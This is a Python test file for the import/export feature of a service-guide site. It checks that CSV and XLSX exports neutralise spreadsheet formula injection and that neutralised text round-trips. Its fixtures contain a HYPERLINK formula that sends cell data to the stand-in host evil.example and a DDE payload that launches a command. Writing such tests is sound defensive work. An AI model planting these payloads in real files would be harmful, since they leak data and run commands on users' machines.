"""Spreadsheet formulas (CSV/formula injection): exports neutralise them, imports read back the same text."""

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from guides.importexport import export_guides, import_guides
from guides.models import GuidePage
from tests.factories import make_guide

from .support import counts

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_guide(content, guide_index):
    """A guide whose texts start like formulas, and a legitimate phone and notes that start with + and -."""
    return make_guide(
        guide_index,
        department=content["police"],
        title=HYPERLINK,
        item_code="11330100MB0000009X4000999Z009",
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
        enquiry_phone="+86 571 87000001",
        complaint_phone="-12345",
        limit_note="'已是引号开头的说明",
        is_free=False,
        fees=[{"name": "+工本费", "standard": "=10*2", "basis": "-发改价格〔2003〕2322号"}],
        materials=[{"name": "=1+1", "notes": "-复印件需签字", "applies_to": ""}],
    )


def test_xlsx_cells_are_text_never_formulas(formula_guide):
    data = export_guides("xlsx", GuidePage.objects.live())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(DANGEROUS)]
    assert "'" + HYPERLINK in texts and "'+86 571 87000001" in texts and "''已是引号开头的说明" in texts


def test_csv_cells_never_start_like_a_formula(formula_guide):
    rows = list(csv.reader(io.StringIO(export_guides("csv", GuidePage.objects.live()).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert "'" + HYPERLINK in cells and "'=1+1" in cells and "'-复印件需签字" in cells


def test_json_carries_the_text_as_it_is(formula_guide):
    guides = json.loads(export_guides("json", GuidePage.objects.live()))["guides"]
    guide = next(guide for guide in guides if guide["item_code"] == formula_guide.item_code)
    assert (guide["title"], guide["enquiry_phone"], guide["limit_note"]) == (
        HYPERLINK,
        "+86 571 87000001",
        "'已是引号开头的说明",
    )


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_neutralised_cells_round_trip_exactly(formula_guide, fmt):
    as_json = export_guides("json", GuidePage.objects.live())
    before = counts()
    plan = import_guides(export_guides(fmt, GuidePage.objects.live()), f"list.{fmt}", dry_run=True)
    assert plan.changes == [] and len(plan.unchanged) == 3
    plan = import_guides(export_guides(fmt, GuidePage.objects.live()), f"list.{fmt}")
    assert plan.changes == [] and counts() == before
    assert export_guides("json", GuidePage.objects.live()) == as_json


def test_a_quote_typed_in_a_spreadsheet_marks_text(content):
    """Excel's own rule: a leading ' only says "this is text"; a phone typed as '+86… is read as +86…."""
    text = export_guides("csv", GuidePage.objects.live()).decode("utf-8-sig")
    text = text.replace("材料齐全当场办结", "'+86 材料齐全当场办结")
    plan = import_guides(text.encode(), "list.csv")
    assert len(plan.updated) == 1
    assert GuidePage.objects.get(pk=content["guides"][1].pk).limit_note == "+86 材料齐全当场办结"


def test_text_a_spreadsheet_cannot_hold_does_not_break_the_export(content):
    """A control character an editor pasted into a title must not turn the public XLSX download into a 500."""
    guide = content["guides"][0]
    guide.title = "居民身份证\x0b换领"
    guide.change_note = "标题里粘贴进了控制字符"
    guide.save_revision().publish()
    workbook = load_workbook(io.BytesIO(export_guides("xlsx", GuidePage.objects.live())))
    assert "居民身份证换领" in [cell.value for cell in workbook["事项"]["B"]]
